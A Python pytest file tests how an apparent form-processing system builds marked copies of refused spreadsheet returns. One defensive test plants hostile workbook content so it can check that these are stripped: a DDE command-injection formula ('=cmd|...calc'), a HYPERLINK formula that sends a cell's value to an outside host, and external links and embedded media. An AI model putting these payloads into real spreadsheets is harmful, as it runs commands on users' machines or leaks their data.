"""The copy that goes back: mistakes marked, answers kept, and nothing in it that acts."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from safehub.audit.returns.workbooks.filled import held_against
from safehub.foundation.documents.marking import AUTHOR, marked_copy
from safehub.foundation.errors import NotPossible
from safehub.foundation.mistakes import Mistake

from .catalogue import CATALOGUE, FILES, Spoiled
from .rounds import ANSWERS, GOOD, NIL, blank, edited, filled, put, stored
from .spoiled import compound, with_link_outside, with_picture

BAD = {**GOOD, "grade": "fine", "visits": "=1+1"}
READABLE = [case for case in CATALOGUE if case.wrong and case not in FILES]


def opened(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data))


def cells_of(book: Any) -> dict[str, Any]:
    sheet = book["returns"]
    return {str(cell.value): sheet.cell(2, cell.column) for cell in sheet[1]}


def refused(data: bytes) -> tuple[Mistake, ...]:
    read = held_against(stored(), data, name="POLICE.xlsx")
    assert read.is_refused
    return read.mistakes


def test_each_mistake_is_marked_where_it_stands_and_listed() -> None:
    data = filled(blank(), BAD, NIL)
    mistakes = refused(data)
    book = opened(marked_copy(data, mistakes))
    assert book.sheetnames[0] == "mistakes"
    cells = cells_of(book)
    for name in ("grade", "visits"):
        assert cells[name].comment.author == AUTHOR
        assert "Wanted: " in cells[name].comment.text
        assert cells[name].fill.start_color.rgb == "FFFFD7D4"
        assert cells[name].border.left.style == "medium"
    assert "Found: fine" in cells["grade"].comment.text
    assert "The formula was: =1+1" in cells["visits"].comment.text
    assert cells["consent"].fill.fill_type is None
    listed = list(book["mistakes"].iter_rows(min_row=2))
    assert len(listed) == len(mistakes) == 2
    links = {row[0].hyperlink.location or row[0].hyperlink.target for row in listed}
    assert {link.lstrip("#") for link in links} == {
        f"'returns'!{cells[name].coordinate}" for name in ("grade", "visits")
    }


def test_answers_rules_and_fingerprint_stay() -> None:
    data = filled(blank(), BAD, NIL)
    before, after = opened(data), opened(marked_copy(data, refused(data)))
    kept = {name: cell.value for name, cell in cells_of(after).items()}
    for name, cell in cells_of(before).items():
        if name != "visits":
            assert kept[name] == cell.value
    assert len(after["returns"].data_validations.dataValidation) == len(
        before["returns"].data_validations.dataValidation
    )
    assert after["safehub"].sheet_state == "hidden"
    assert after["returns"].protection.sheet
    assert after["returns"].freeze_panes == "D2"


def test_copy_is_refused_until_it_is_mended_and_then_taken() -> None:
    data = filled(blank(), BAD, NIL)
    copy = marked_copy(data, refused(data))
    again = refused(copy)
    assert [mistake.place for mistake in again] == [mistake.place for mistake in refused(data)]
    half = edited(copy, lambda book: put(book, 2, grade="good"))
    second = marked_copy(half, refused(half))
    cells = cells_of(opened(second))
    assert cells["grade"].comment is None
    assert cells["grade"].fill.fill_type is None
    assert cells["visits"].fill.start_color.rgb == "FFFFD7D4"
    mended = edited(second, lambda book: put(book, 2, visits=3))
    read = held_against(stored(), mended, name="to-mend.xlsx")
    assert [str(mistake) for mistake in read.mistakes] == []
    assert dict(read.rows[0].answers) == ANSWERS


def test_fill_of_a_grey_cell_comes_back_when_it_is_mended() -> None:
    data = edited(filled(blank(), GOOD), lambda book: put(book, 2, case="99"))
    copy = marked_copy(data, refused(data))
    assert not cells_of(opened(copy))["case"].protection.locked
    mended = edited(copy, lambda book: put(book, 2, case="01"))
    clean = cells_of(opened(marked_copy(mended, [])))["case"]
    assert clean.fill.start_color.rgb == cells_of(opened(data))["case"].fill.start_color.rgb
    assert clean.comment is None


def test_nothing_that_acts_is_in_the_copy() -> None:
    def dangers(book: Any) -> None:
        book.create_sheet("Notes").append(["=cmd|' /C calc'!A0", "=1+1"])
        sheet = book["returns"]
        sheet["D2"] = '=HYPERLINK("http://example.org/?"&A1,"here")'
        sheet["E2"].hyperlink = "http://example.org/"
        name = openpyxl.workbook.defined_name.DefinedName("bad", attr_text="cmd|'/C calc'!A0")
        book.defined_names["bad"] = name

    data = with_link_outside(with_picture(edited(filled(blank(), BAD), dangers)))
    copy = marked_copy(data, refused(data))
    with zipfile.ZipFile(io.BytesIO(copy)) as archive:
        names = archive.namelist()
        everything = b"".join(archive.read(name) for name in names)
    for word in ("media", "drawing9", "externalLink", "vbaProject", "embeddings"):
        assert not [name for name in names if word in name]
    assert b'example.org/"' not in everything
    assert b"ddeLink" not in everything
    assert b"<f>" not in everything.replace(b"<formula", b"").replace(b"<formula1", b"")
    book = opened(copy)
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds
    assert list(book.defined_names) == []
    assert book["Notes"]["A1"].value == "'=cmd|' /C calc'!A0"


@pytest.mark.parametrize("case", READABLE, ids=lambda case: str(case.name))
def test_whatever_was_refused_can_be_marked(case: Spoiled) -> None:
    data = case.data()
    whose = {"agency": case.agency, "respondent": case.respondent}
    read = held_against(stored(), data, name=case.file, **whose)
    book = opened(marked_copy(data, read.mistakes))
    assert book["mistakes"].max_row == len(read.mistakes) + 1


def reads_of_size(rows: int, monkeypatch: pytest.MonkeyPatch) -> int:
    """How often a sheet is measured to mark a copy with every cell of these rows wrong."""
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    sheet.title = "returns"
    for _ in range(rows + 1):
        sheet.append([f"q{number}" for number in range(23)])
    file = io.BytesIO()
    book.save(file)
    places = [f"row {row}, column q{n}" for row in range(2, rows + 2) for n in range(23)]
    mistakes = [Mistake("a.xlsx", f"sheet returns, {place}", "q", "1") for place in places]
    measured = []
    for name in ("max_row", "max_column", "iter_rows"):
        was = getattr(Worksheet, name)

        def counted(self: Worksheet, *args: Any, _was: Any = was, **more: Any) -> Any:
            measured.append(self.title)
            read: Any = _was.fget if isinstance(_was, property) else _was
            return read(self, *args, **more)

        as_was = property(counted) if isinstance(was, property) else counted
        monkeypatch.setattr(Worksheet, name, as_was)
    copy = marked_copy(file.getvalue(), mistakes)
    monkeypatch.undo()
    last = opened(copy)["returns"].cell(rows + 1, 23)
    assert (last.comment is not None) == (rows * 23 <= 2_000)
    assert opened(copy)["mistakes"].max_row == rows * 23 + 1
    return len(measured)


def test_a_sheet_is_measured_no_oftener_for_more_mistakes(monkeypatch: pytest.MonkeyPatch) -> None:
    few = reads_of_size(3, monkeypatch)
    assert 0 < few == reads_of_size(100, monkeypatch)


def test_mistakes_in_merged_cells_are_marked_in_the_first_of_them() -> None:
    def merge(book: Any) -> None:
        book["returns"].merge_cells("D2:F4")

    data = edited(blank(), merge)
    place = "sheet returns, row 4, column E"
    book = opened(marked_copy(data, [Mistake("a.xlsx", place, "", "an answer")]))
    assert book["returns"]["D2"].comment is not None


@pytest.mark.parametrize("data", [b"", b"a,b\n", compound("Workbook"), b"PK\x03\x04"])
def test_what_is_no_workbook_cannot_be_marked(data: bytes) -> None:
    with pytest.raises(NotPossible, match="cannot be marked"):
        marked_copy(data, refused(data))
